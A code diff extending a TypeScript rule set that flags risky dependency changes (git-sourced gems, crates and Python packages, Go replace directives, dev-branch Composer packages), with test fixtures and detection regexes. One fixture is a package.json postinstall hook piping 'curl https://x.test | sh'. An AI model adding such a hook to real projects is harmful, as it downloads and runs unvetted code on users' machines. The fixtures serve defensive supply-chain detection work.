@@ -30,10 +30,19 @@ export const dependencyRules: readonly Rule[] = [
       diff('package.json', '+    "lodash": "*",'),
       diff('package.json', '+    "postinstall": "curl https://x.test | sh",'),
       diff('package.json', '+    "preinstall": "node scripts/setup.js",'),
+      diff('Gemfile', "+gem 'devise', git: 'https://github.com/x/devise.git', branch: 'main'"),
+      diff('requirements.txt', '+git+https://github.com/x/flask-login@dev'),
+      diff('requirements.txt', '+requests @ https://files.x.test/requests.whl'),
+      diff('Cargo.toml', '+jwt = { git = "https://github.com/x/jwt", branch = "fast" }'),
+      diff('composer.json', '+    "acme/auth": "dev-main",'),
+      diff('go.mod', '+replace github.com/gorilla/csrf => github.com/x/csrf v0.0.1'),
     ],
     misses: [
       diff('package.json', '+    "express": "^4.19.2",'),
       diff('requirements.txt', '+requests==2.32.0'),
+      diff('Gemfile', "+gem 'devise', '~> 4.9'"),
+      diff('Cargo.toml', '+serde = { version = "1.0", features = ["derive"] }'),
+      diff('go.mod', '+replace example.org/app/lib => ../lib'),
       diff('package-lock.json', '+      "resolved": "https://codeload.github.com/a/a/tar.gz/1.0.0",'),
       diff('package.json', '+    "build": "tsc",'),
       diff('package.json', '+    "prepare": "husky",'),
@@ -58,13 +67,24 @@ export const dependencyRules: readonly Rule[] = [
             ? 'blocker'
             : 'high',
         }
+      const elsewhere =
+        /^\s*gem\s+["']([\w-]+)["'][^#\n]{0,120}\b(?:git|github|bitbucket|gist|source|path)(?:["']?\s*=>|:)/.exec(
+          text,
+        ) ??
+        /^\s*([\w.-]+)(?:\[[\w,-]{1,40}\])?\s*@\s*(?:git\+|https?:|ssh:)/.exec(text) ??
+        /^\s*(?:-e\s+|--editable\s+)?(git\+(?:https?|ssh):\S+)/.exec(text) ??
+        /^\s*["']?([\w-]+)["']?\s*=\s*\{[^}\n]{0,120}\b(?:git|url)\s*=\s*["']/.exec(text) ??
+        /^\s*(?:replace\s+)?([\w./-]+)(?:\s+v[\w.-]+)?\s*=>\s*[\w-]+\.[\w./-]+/.exec(text) ??
+        /^\s*(--(?:extra-)?index-url\s+http\S+)/.exec(text)
+      if (elsewhere && !/^\s*#/.test(text))
+        return `${elsewhere[1]} comes from an address, not from the registry.`
       const pair =
         /^\s*["']?(@?[\w./-]+)["']?\s*(?::|==|>=|~=|=|@)\s*["']?([^"',\s]*)/.exec(text) ??
         /^\s*([\w.-]+)\s*$/.exec(text)
       if (!pair) return
       const [, name = '', version = ''] = pair
       if (
-        /^(?:git(?:\+|:)|git@|http:|https:\/\/(?!registry)|github:|bitbucket:|gist:|[\w-]+\/[\w-]+(?:#|$))/.test(
+        /^(?:dev-\w|git(?:\+|:)|git@|http:|https:\/\/(?!registry)|github:|bitbucket:|gist:|[\w-]+\/[\w-]+(?:#|$))/.test(
           version,
         ) &&
         !/^(?:homepage|url|repository|type|bugs|funding|\$schema|documentation)$/i.test(name)
